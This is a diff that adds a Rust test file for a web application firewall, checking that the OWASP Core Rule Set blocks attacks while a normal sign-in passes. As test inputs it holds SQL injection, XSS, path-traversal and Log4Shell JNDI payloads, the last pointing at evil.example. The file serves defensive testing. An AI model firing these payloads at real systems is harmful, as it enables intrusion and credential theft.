@@ -1,0 +1,101 @@
+//! The OWASP Core Rule Set 3.3.4 (Debian's `modsecurity-crs`, installed by `scripts/setup.sh`)
+//! loaded by `waf serve` from its own folders: obvious attacks are blocked before the origin,
+//! a sign-in passes, and the site's paranoia level reaches the CRS.
+
+mod common;
+
+use common::{Origin, Proxy, Setup};
+
+const CRS: &str = "[\"/etc/modsecurity/crs/crs-setup.conf\", \"/usr/share/modsecurity-crs/rules\"]";
+
+#[test]
+fn crs_loaded_through_the_proxy_blocks_the_obvious_attacks() {
+    assert!(
+        std::path::Path::new("/usr/share/modsecurity-crs/rules").is_dir(),
+        "install the Debian package modsecurity-crs (scripts/setup.sh does)"
+    );
+    let origin = Origin::start();
+    let proxy = Proxy::start(
+        &origin,
+        Setup {
+            rules: CRS.to_string(),
+            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".to_string(),
+            ..Setup::default()
+        },
+    );
+    let ua = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\nAccept: text/html\r\n";
+    let clean = proxy.get(
+        "login.contoso.com",
+        "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=6731de76-14a6-49ae-97bc-6eba6914391e&response_type=code&scope=openid&state=abc",
+        ua,
+    );
+    assert_eq!(clean.status, 200, "{}", clean.raw);
+    assert_eq!(origin.seen().len(), 1);
+
+    for attack in [
+        "/?q=1%27%20OR%20%271%27%3D%271",
+        "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "/?file=../../../../etc/passwd",
+        "/?x=${jndi:ldap://evil.example/a}",
+    ] {
+        let r = proxy.get("login.contoso.com", attack, ua);
+        assert_eq!(r.status, 403, "{attack}: {}", r.raw);
+        assert!(r.header("x-request-id").is_some());
+    }
+    let form = "username=zoe&password=x%27%20UNION%20SELECT%20password%20FROM%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E";
+    let r = proxy.post("/login", "application/x-www-form-urlencoded", form);
+    assert_eq!(r.status, 403, "{}", r.raw);
+    assert_eq!(origin.seen().len(), 1, "the origin saw none of the attacks");
+
+    // The audit log names CRS rules and the blocking evaluation.
+    let audit = proxy.audit();
+    let ids: Vec<u64> = audit
+        .iter()
+        .flat_map(|line| line["rules"].as_array().cloned().unwrap_or_default())
+        .filter_map(|m| m["id"].as_u64())
+        .collect();
+    assert!(ids.contains(&949110), "{audit:?}");
+    assert!(ids.contains(&942100), "{ids:?}");
+}
+
+/// The CRS's own regression tests, with the reference settings (paranoia level 4, detection
+/// only). A ratchet: the floor rises with the pass rate toward the target of 99%; every stage
+/// that fails is listed with its reason in docs/crs-compat.md.
+#[test]
+fn crs_regression_tests_pass_through_waf_ftw() {
+    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../shared/corpus/crs-3.3.4/tests");
+    assert!(
+        corpus.is_dir(),
+        "{} is missing: the CRS corpus is read from ../shared at test time",
+        corpus.display()
+    );
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_waf"))
+        .args([
+            "ftw",
+            "--rules",
+            "/etc/modsecurity/crs/crs-setup.conf",
+            "--rules",
+            "/usr/share/modsecurity-crs/rules",
+            "--paranoia",
+            "4",
+            "--detection-only",
+            "--min-pass-rate",
+            "0.965",
+        ])
+        .arg(&corpus)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let overall = stdout
+        .lines()
+        .find(|l| l.starts_with("overall:"))
+        .unwrap_or("");
+    println!("{overall}");
+    assert!(
+        out.status.success(),
+        "{overall}\n{}\n{}",
+        stdout,
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
